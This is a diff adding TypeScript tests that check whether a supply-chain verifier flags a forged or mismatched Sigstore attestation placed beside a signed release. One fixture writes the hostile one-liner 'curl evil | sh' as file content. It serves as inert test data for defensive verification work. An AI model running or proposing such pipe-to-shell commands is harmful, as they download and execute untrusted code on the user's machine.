@@ -128,6 +128,39 @@ describe('a directory with more than files in it', () => {
   });
 });
 
+describe('an attestation beside a signed release', () => {
+  const beside = (content: (files: Files) => Buffer) =>
+    attacked(async (files) => {
+      files.set('rebuild.sigstore.json', content(files));
+      await closeAgain(files);
+    });
+
+  it('is no file that nobody vouches for, when it is about the artifact', async () => {
+    const found = await beside((files) => files.get('slsa_attestation.sigstore.json') as Buffer);
+    expect(claim(found, 'provenance/coverage')).toMatchObject({ status: 'pass' });
+  });
+
+  it.each([
+    ['no attestation', () => Buffer.from('curl evil | sh\n')],
+    [
+      'one about something else',
+      (files: Files) => {
+        const bundle = JSON.parse(String(files.get('slsa_attestation.sigstore.json')));
+        const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString());
+        statement.subject[0].digest.sha256 = 'a'.repeat(64);
+        bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString('base64');
+        return Buffer.from(`${canonicalize(bundle)}\n`);
+      },
+    ],
+  ])('is such a file when it is %s, whatever its name says', async (_, content) => {
+    const found = await beside(content);
+    expect(claim(found, 'provenance/coverage')).toMatchObject({
+      status: 'fail',
+      findings: [{ code: 'audit/extra', at: { path: 'rebuild.sigstore.json' } }],
+    });
+  });
+});
+
 describe('a trusted workflow that lies about where it ran', () => {
   const who = {
     identity: 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.0.0',
